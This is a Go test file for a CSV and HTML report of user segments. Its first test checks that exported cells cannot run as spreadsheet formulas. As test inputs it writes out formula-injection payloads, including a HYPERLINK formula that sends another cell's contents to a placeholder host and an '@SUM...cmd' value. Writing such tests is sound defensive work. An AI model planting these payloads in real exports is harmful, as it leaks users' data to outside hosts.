package report

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/seed-56ee9438/cohort/result"
	"github.com/seed-56ee9438/cohort/source"
)

// No cell of segments.csv is run by a spreadsheet, and package source reads every
// one as it was.
func TestCSVIsSafe(t *testing.T) {
	t.Parallel()
	s := &result.Segmentation{Segments: []result.Profile{{ID: 1, Name: "@home, -fast"}}}
	texts := []string{`=HYPERLINK("https://example.com/?x="&A1,"open")`, "@SUM(1+1)*cmd", "+1 for this", "-5", "'=x", "＝1", "plain"}
	for i, text := range texts {
		s.Users = append(s.Users, result.User{ID: text + "u", Segment: 1 - 2*(i%2), Margin: -0.25, Mixture: []float64{1}, Deciding: []result.Deciding{{Text: text}}})
	}
	path := filepath.Join(t.TempDir(), "segments.csv")
	var b strings.Builder
	if err := WriteCSV(&b, s); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	src, err := source.Open(t.Context(), path, source.Options{TextColumn: "deciding_text"})
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	i := 0
	for r, err := range src.Rows(context.Background()) {
		if err != nil {
			t.Fatal(err)
		}
		if r.Text != texts[i] || r.User != texts[i]+"u" || r.Field("margin") != "-0.25" {
			t.Errorf("row %d: %+v", i, r)
		}
		i++
	}
	for line := range strings.Lines(b.String()) {
		for _, cell := range strings.Split(line, ",") {
			if cell = strings.Trim(cell, "\"\n"); strings.IndexAny(cell, "=+@＝") == 0 {
				t.Errorf("a cell is run: %s", cell)
			}
		}
	}
	if i != len(texts) {
		t.Errorf("%d rows of %d", i, len(texts))
	}
}

// Columns of memberships are there if anybody has them, empty for users without.
func TestCSVMemberships(t *testing.T) {
	t.Parallel()
	s := &result.Segmentation{
		Segments: []result.Profile{{ID: 4}, {ID: 2}},
		Users:    []result.User{{ID: "a", Segment: 4, Mixture: []float64{1, 0}}, {ID: "b", Segment: -1, Mixture: []float64{0, 0}}},
	}
	for _, want := range []struct{ head, a, b string }{{"mixture_4,mixture_2", ",1,0", ",0,0"}, {"mixture_4,mixture_2,membership_4,membership_2", ",1,0,0.75,0.25", ",0,0,,"}} {
		var b strings.Builder
		if err := WriteCSV(&b, s); err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(b.String(), "\n")
		if len(lines) != 4 || !strings.HasSuffix(lines[0], ","+want.head) || !strings.HasSuffix(lines[1], want.a) || !strings.HasSuffix(lines[2], want.b) {
			t.Errorf("%q", lines)
		}
		s.Users[0].Memberships = []float64{0.75, 0.25}
	}
}

// The report says how many joined segments, and how, in both languages.
func TestPageSaysWhoJoined(t *testing.T) {
	t.Parallel()
	for rest, want := range map[string][2]string{"": {}, "centre": {"nearest centre: 7.", "按最近中心"}, "membership": {"most a member: 7.", "按隶属度"}, "words": {"most like theirs: 7.", "按用词相似"}} {
		for i, lang := range []string{"en", "zh"} {
			s := &result.Segmentation{Scores: result.Scores{Verdict: result.VerdictFair}, Counts: result.Counts{Users: 20, Joined: 7}, Run: result.Run{Rest: rest}}
			var b strings.Builder
			if err := (Page{Lang: lang}).Write(&b, s); err != nil {
				t.Fatal(err)
			}
			if want[i] != "" && !strings.Contains(b.String(), want[i]) {
				t.Errorf("%s, %s: not said", rest, lang)
			}
			if rest == "" && (strings.Contains(b.String(), "left out and who") || strings.Contains(b.String(), "聚类算法未归入")) {
				t.Errorf("%s: said of nobody", lang)
			}
		}
	}
}
